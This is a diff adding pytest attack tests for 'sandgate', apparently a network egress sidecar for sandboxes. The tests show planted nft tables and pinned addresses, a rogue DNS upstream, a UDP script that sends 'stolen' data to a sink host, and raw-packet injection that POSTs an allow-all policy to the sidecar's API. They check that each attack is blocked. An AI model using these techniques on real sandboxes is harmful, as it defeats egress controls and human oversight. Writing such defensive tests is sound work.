@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import contextlib
+import http.client
 import signal
+import socket
 import subprocess
 from collections.abc import Iterator
 from pathlib import Path
@@ -13,8 +16,9 @@ from lab import plan
 from lab.accomplice import FORGERIES, Forgery, accomplice
 from lab.flood_watch import starting
 from lab.internet import Internet
+from lab.processes import Child, wait_until
 from lab.sandgate import allowing
-from lab.sidecar import INSIDE4, INSIDE6, OUTSIDE4, RAW, SharedNetwork, Sidecar, sidecar
+from lab.sidecar import INSIDE4, INSIDE6, OUTSIDE4, RAW, SharedNetwork, Sidecar, inside, sidecar
 from lab.tool import binary
 
 ATTACKS = Path(__file__).parent / "attacks" / "shared_namespace.py"
@@ -117,6 +121,103 @@ def test_nameserver_of_a_sidecar_that_begins_again(internet: Internet, shared: S
         assert shared.reaches(plan.ALLOWED) and asked() == {"other"}, shared.log
 
 
+@contextlib.contextmanager
+def left_before(shared: Sidecar, **variables: str) -> Iterator[None]:
+    """What somebody leaves who can change the network before there is a sidecar, and runs one of his own: a table that looks the
+    same. Meanwhile the next one to begin is his, with his key."""
+    own = shared.audit
+    shared.audit = shared.directory / "another's audit"
+    shared.start(allowing(plan.ALLOWED), **variables)
+    assert shared.reaches(plan.ALLOWED), shared.log
+    shared.end(signal.SIGTERM)
+    yield
+    shared.audit = own
+
+
+@pytest.mark.attack(
+    "T3 T10a",
+    "has left a table from before that looks like a sidecar's, and notes a nameserver that answers for it",
+    stopped_by="start",
+)
+def test_nameserver_that_is_noted_from_before(internet: Internet, shared: Sidecar) -> None:
+    with left_before(shared, DNS_UPSTREAM=plan.OTHER_DNS4):
+        internet.forget()
+        shared.start(allowing(plan.ALLOWED), DNS_UPSTREAM="")
+        assert shared.reaches(plan.ALLOWED) and internet.other_dns.queries(), "who knows it for his own goes by it"
+        shared.end(signal.SIGTERM)
+    internet.forget()
+    said = shared.refuses(allowing(plan.ALLOWED), DNS_UPSTREAM="")
+    assert f"names {plan.DNS4}:53, and rules in this network name {plan.OTHER_DNS4}:53" in said, said
+    assert not shared.reaches(plan.ALLOWED) and internet.other_dns.queries() == []
+    # The operator's word holds, and from then on it is this one's own.
+    for upstream in (plan.DNS4, ""):
+        shared.start(allowing(plan.ALLOWED), DNS_UPSTREAM=upstream)
+        assert shared.reaches(plan.ALLOWED), shared.log
+        shared.end(signal.SIGTERM)
+    assert internet.dns.queries() and internet.other_dns.queries() == []
+
+
+@pytest.mark.attack(
+    "T3 N3 T10a",
+    "has left a table from before that looks like a sidecar's, with an address of its own pinned for an allowed name",
+    stopped_by="start",
+)
+def test_pins_from_before(internet: Internet, shared: Sidecar) -> None:
+    """Elements of a set may last as long as who makes them says."""
+    pin = f"{{ {plan.DENIED4} timeout 20d comment \"{plan.ALLOWED}\" }}"
+
+    def reaches_it() -> bool:
+        with internet.capture(f"tcp and dst host {plan.DENIED4}", unenforced=True) as outside:
+            shared.run("curl", "-sS", "-m", "5", "--resolve", f"{plan.ALLOWED}:443:{plan.DENIED4}", f"https://{plan.ALLOWED}/")
+        return len(outside) > 0
+
+    with left_before(shared):
+        shared.namespace.check("nft", "add", "element", "inet", "sandgate", "pinned4", pin)
+        shared.start(allowing(plan.ALLOWED))
+        assert reaches_it(), "who knows it for his own goes by it"
+        shared.end(signal.SIGTERM)
+    shared.start(allowing(plan.ALLOWED))
+    assert not reaches_it(), shared.log
+    assert shared.reaches(plan.ALLOWED), shared.log
+
+
+@pytest.mark.attack(
+    "T12 T10a",
+    "has left a table from before that looks like a sidecar's, and an entry by which what it sends looks like the answers of a "
+    "connection that was let in",
+    stopped_by="kernel",
+)
+def test_entry_from_before(internet: Internet, shared: Sidecar) -> None:
+    entry = ("/usr/bin/python3", str(ATTACKS.parent / "prepare_network.py"), "entry", INSIDE4, "5555", plan.SINK4, "4444")
+    script = (
+        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
+        f"s.bind(('{INSIDE4}', 5555)); s.sendto(b'stolen by an entry', ('{plan.SINK4}', 4444))"
+    )
+
+    def sends() -> bool:
+        internet.forget()
+        shared.run("/usr/bin/python3", "-c", script)
+        return "stolen by an entry" in internet.sinks.data()
+
+    with left_before(shared):
+        shared.namespace.check(*entry)
+        shared.start(allowing(plan.ALLOWED))
+        assert sends(), "who knows it for his own goes by it"
+        shared.end(signal.SIGTERM)
+    shared.start(allowing(plan.ALLOWED))
+    assert not sends(), shared.log
+
+
+@pytest.mark.honest("a sidecar that has lost its directory, and begins again under the same nameserver")
+def test_sidecar_without_its_directory(internet: Internet, shared: Sidecar) -> None:
+    """Its audit trail may be in memory (--tmpfs), and ends with the container."""
+    for number in range(3):
+        shared.audit = shared.directory / f"audit {number}"
+        shared.start(allowing(plan.ALLOWED), DNS_UPSTREAM="")
+        assert shared.reaches(plan.ALLOWED) and not shared.reaches(plan.DENIED), shared.log
+        shared.end(signal.SIGKILL)
+
+
 @pytest.mark.attack("T5", "is shared with a sidecar that has no CAP_NET_ADMIN", stopped_by="start")
 def test_sidecar_without_privilege(internet: Internet, shared: Sidecar, tmp_path: Path) -> None:
     environment = {"SANDGATE_AUDIT_DIR": str(tmp_path / "a"), "OPENSANDBOX_EGRESS_DNS_UPSTREAM": plan.DNS4}
@@ -184,6 +285,63 @@ def test_paths_of_the_sidecar(internet: Internet, shared: Sidecar, host: str) ->
     )
     assert shared.ask("POST", *override, *opened, f"http://{host}:18080/policy") in ("000", "401", "403")
     assert shared.policy()["defaultAction"] == "deny"
+
+
+LISTENING = f"""\
+import socket, sys
+listener = socket.create_server(("{INSIDE4}", 18080))
+print("listening", flush=True)
+connection = listener.accept()[0]
+with open(sys.argv[1], "ab", 0) as heard:
+    while data := connection.recv(65536):
+        heard.write(data)
+        if b"healthz" in data: connection.sendall(b"HTTP/1.1 200 OK\\r\\ncontent-length: 2\\r\\n\\r\\nok")
+"""
+OPENING = b'{"defaultAction":"allow"}'
+
+
+@contextlib.contextmanager
+def kept_connection(internet: Internet, shared: Sidecar, way: str) -> Iterator[http.client.HTTPConnection]:
+    """A connection from outside to the policy API, on which something was asked and the sandbox has gone on."""
+    request = b"POST /policy HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s" % (len(OPENING), OPENING)
+    command = ("/usr/bin/python3", str(ATTACKS), "inject", way, INSIDE4, "18080", request.hex())
+    watcher = subprocess.Popen(shared.command(*command), stdout=subprocess.PIPE, text=True)
+    assert watcher.stdout is not None and watcher.stdout.readline() == "watching\n"
+    connection = http.client.HTTPConnection(INSIDE4, 18080, timeout=10)
+    with inside(internet.namespace.name):
+        connection.sock = socket.create_connection((INSIDE4, 18080), 5)
+    with contextlib.closing(connection):
+        connection.request("GET", "/healthz")
+        assert connection.getresponse().read() == b"ok"
+        output, _ = watcher.communicate(timeout=20)
+        assert f"sent in the name of {OUTSIDE4}" in output, output
+        yield connection
+
+
+@pytest.mark.attack(
+    "T2 T12",
+    "goes on with a connection that somebody outside has to the sidecar's policy API, in his name and with packets made by hand, to "
+    "open itself",
+    stopped_by="kernel",
+)
+@pytest.mark.parametrize("way", ["raw", "frame"])
+def test_request_in_the_name_of_who_is_outside(internet: Internet, shared: Sidecar, tmp_path: Path, way: str) -> None:
+    """Who comes from outside is asked for no token where none is configured, and may change the policy where who comes from inside
+    may not. The numbers of the connection can be read with a packet socket."""
+    heard = tmp_path / "heard"
+    server = Child(shared.namespace.command("/usr/bin/python3", "-c", LISTENING, str(heard)), "listening")
+    try:
+        with kept_connection(internet, shared, way):
+            wait_until(lambda: OPENING in heard.read_bytes(), "what the sandbox said, without a sidecar")
+    finally:
+        server.stop()
+    shared.start(allowing(plan.ALLOWED), SANDGATE_READ_ONLY_FROM_INSIDE="true")
+    with kept_connection(internet, shared, way) as connection:
+        assert shared.policy()["defaultAction"] == "deny", shared.log
+        # The connection is still his, and what is asked later is answered later.
+        connection.request("GET", "/policy")
+        assert b'"defaultAction":"deny"' in connection.getresponse().read(), shared.log
+    assert not shared.reaches(plan.DENIED) and shared.policy()["defaultAction"] == "deny", shared.log
 
 
 @pytest.mark.attack("T12", "answers a datagram that came from outside, and goes on sending", stopped_by="kernel")
